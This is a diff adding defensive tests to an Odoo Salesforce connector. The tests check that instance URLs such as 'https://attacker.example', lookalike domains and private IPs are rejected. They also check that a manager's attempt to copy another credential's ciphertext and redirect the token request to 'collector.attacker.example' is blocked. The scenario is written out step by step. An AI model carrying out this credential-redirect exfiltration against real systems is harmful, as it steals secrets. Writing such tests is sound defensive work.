@@ -6,9 +6,14 @@ from urllib.parse import parse_qs
 import responses
 
 from odoo import fields
-from odoo.addons.qtc_connector_base.exceptions import BusinessError, RetryableError
+from odoo.addons.qtc_connector_base.exceptions import (
+    BusinessError,
+    RetryableError,
+    UndecryptableSecret,
+)
+from odoo.addons.qtc_connector_base.lib.destinations import OutboundRefused
 from odoo.exceptions import ValidationError
-from odoo.tests import tagged
+from odoo.tests import new_test_user, tagged
 
 from .common import API, INSTANCE, TOKEN_URL, SalesforceCase
 
@@ -203,6 +208,84 @@ class TestConnection(SalesforceCase):
             with self.subTest(values=values), self.assertRaises(ValidationError):
                 with self.env.cr.savepoint():
                     self.backend.write(values)
+
+    def test_instance_url_must_be_a_salesforce_host(self):
+        for url in (
+            "https://attacker.example",
+            "https://acme.my.salesforce.com.attacker.example",
+            "https://127.0.0.1:8443",
+            "https://10.0.0.5",
+        ):
+            with self.subTest(url=url), self.assertRaises(ValidationError) as caught:
+                with self.env.cr.savepoint():
+                    self.backend.salesforce_instance_url = url
+            message = str(caught.exception)
+            self.assertIn("is not a host of Salesforce", message)
+            self.assertIn("https://acme.my.salesforce.com", message)
+            self.assertIn("qtc_allowed_hosts", message)
+        for url in (
+            "https://acme.my.salesforce.com",
+            "https://acme--uat.sandbox.my.salesforce.com",
+            "https://na42.salesforce.com",
+        ):
+            self.backend.salesforce_instance_url = url
+
+    @responses.activate
+    def test_a_manager_cannot_make_odoo_send_another_secret_away(self):
+        # The attack: copy another credential's ciphertext into the consumer
+        # secret row, point the instance URL at one's own host, press Test
+        # connection. Each step is refused on its own.
+        manager = new_test_user(
+            self.env, "sf_manager", groups="qtc_connector_base.group_qtc_manager"
+        )
+        stripe_like = self._qtc_make_backend(name="Payments")
+        stripe_like._qtc_set_secret("api_key", "sk_live_the_crown_jewels_0001")
+        backend = self.backend.with_user(manager)
+        backend.write(
+            {
+                "salesforce_auth_flow": "client_credentials",
+                "salesforce_client_secret": "x",
+            }
+        )
+        credentials = self.env["qtc.credential"].with_user(manager)
+        stolen = credentials.search(
+            [("backend_id", "=", stripe_like.id), ("key", "=", "api_key")]
+        )
+        row = credentials.search(
+            [
+                ("backend_id", "=", self.backend.id),
+                ("key", "=", "salesforce_client_secret"),
+            ]
+        )
+        row.ciphertext = stolen.ciphertext
+        with self.assertRaises(ValidationError):
+            with self.env.cr.savepoint():
+                backend.salesforce_instance_url = "https://collector.attacker.example"
+        responses.post(
+            "https://collector.attacker.example/services/oauth2/token", json={}
+        )
+        # Even with the URL forced past the form (SQL), nothing leaves.
+        self.env.cr.execute(
+            "UPDATE qtc_backend SET salesforce_instance_url = %s WHERE id = %s",
+            ("https://collector.attacker.example", self.backend.id),
+        )
+        self.backend.invalidate_recordset()
+        with self.assertRaises(UndecryptableSecret) as caught:
+            self.backend._qtc_get_secret("salesforce_client_secret")
+        self.assertIn("copied from another credential", str(caught.exception))
+        action = backend.action_test_connection()
+        self.assertEqual(action["params"]["type"], "danger")
+        self.assertNotIn("crown_jewels", action["params"]["message"])
+        self.assertFalse(responses.calls, "no request reached any host")
+        # With a readable secret of its own the foreign host is still refused.
+        self.backend._qtc_set_secret("salesforce_client_secret", "cs-own-secret-1")
+        with self.assertRaises(OutboundRefused) as refused:
+            self.backend._salesforce_fetch_token()
+        self.assertIn(
+            "collector.attacker.example is not a host of Salesforce",
+            str(refused.exception),
+        )
+        self.assertFalse(responses.calls)
 
     def test_sweep_warning(self):
         self.assertEqual(
